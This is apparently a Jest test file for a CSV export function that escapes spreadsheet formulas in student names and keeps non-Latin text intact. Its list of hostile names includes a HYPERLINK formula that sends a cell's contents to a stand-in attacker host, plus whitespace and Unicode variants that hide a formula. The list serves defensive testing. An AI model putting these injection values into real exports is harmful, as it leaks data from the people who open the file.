/** @jest-environment node */
import { Readable } from 'node:stream';
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { FORMULA_START } from 'shared-api/csv-format';
import { csvText } from './csv';

describe('csvText', () => {
  it('quotes what needs quoting, escapes formulas, keeps Korean and Nepali text, CRLF line ends', async () => {
    const text = await csvText(['Student', 'Score'], [
      ['Ram, "Bahadur"', 35], ['=HYPERLINK("http://x")', '+1'], ['@SUM(A1)', '-2'], ['듣기 시험', 'नेपाली'], [null, undefined],
    ]);
    expect(text.split('\r\n')).toEqual([
      'Student,Score', '"Ram, ""Bahadur""",35', `"'=HYPERLINK(""http://x"")","'+1"`, `"'@SUM(A1)","'-2"`, '듣기 시험,नेपाली', ',', '',
    ]);
  });

  // names a student can give themself: each would run in a spreadsheet if written as it is
  const hostile = [
    '=HYPERLINK(\n"http://evil.example/?"&B2,"Open")',
    '=1+1\r\n',
    '=1+1\r\nsecond line',
    '\u2028=1+1',
    '=1+1\u2028',
    '\t=1+1',
    '\t',
    '\r=1+1',
    '\n=1+1',
    '  =1+1',
    ' +1',
    '\u00a0-2+3',
    '@SUM(A1:A9)\n',
    '-2',
    '\uff1d1+1', // full-width =
    '\ufeff=1+1',
  ];
  const harmless = ['Ram Bahadur', '김민수', 'राम', 'a\u2028b', 'O\'Neil', 'x=1', 'a-b', 'name@example.com', ''];
  const read = async (text: string) => {
    const papa = Papa.parse<string[]>(text, { skipEmptyLines: true }).data;
    const book = new ExcelJS.Workbook();
    // exceljs reads every cell as text (no conversion): what a spreadsheet opening the file is given
    const sheet = await book.csv.read(Readable.from([text]), { map: (v: string) => v } as never);
    const excel: string[][] = [];
    sheet.eachRow((row) => excel.push((row.values as unknown[]).slice(1).map((v) => String(v ?? ''))));
    return { papa, excel };
  };

  it('escapes every cell a spreadsheet would read as a formula, whatever follows its first character (papaparse and exceljs read it back)', async () => {
    const rows = [...hostile, ...harmless].map((name, i) => [name, i]);
    const text = await csvText(['Student', 'Row'], rows);
    const { papa, excel } = await read(text);
    for (const parsed of [papa, excel]) {
      // one record per row: no line break inside a cell splits it, U+2028 included
      expect(parsed).toHaveLength(rows.length + 1);
      parsed.slice(1).forEach(([cell, row], i) => {
        const name = rows[i]![0] as string;
        expect(Number(row)).toBe(i);
        if (FORMULA_START.test(name)) expect(cell).toBe(`'${name}`);
        else expect(cell).toBe(name);
        // nothing read back starts a formula
        expect(FORMULA_START.test(cell!)).toBe(false);
      });
    }
    for (const name of hostile) expect(FORMULA_START.test(name)).toBe(true);
    for (const name of harmless) expect(FORMULA_START.test(name)).toBe(false);
    // a line separator is quoted, so a reader that splits lines there still sees one cell
    expect(text).toContain('"a\u2028b"');
  });

  it('numbers are figures, never escaped', async () => {
    const text = await csvText(['Score'], [[-5], [0]]);
    expect(text).toBe('Score\r\n-5\r\n0\r\n');
  });
});
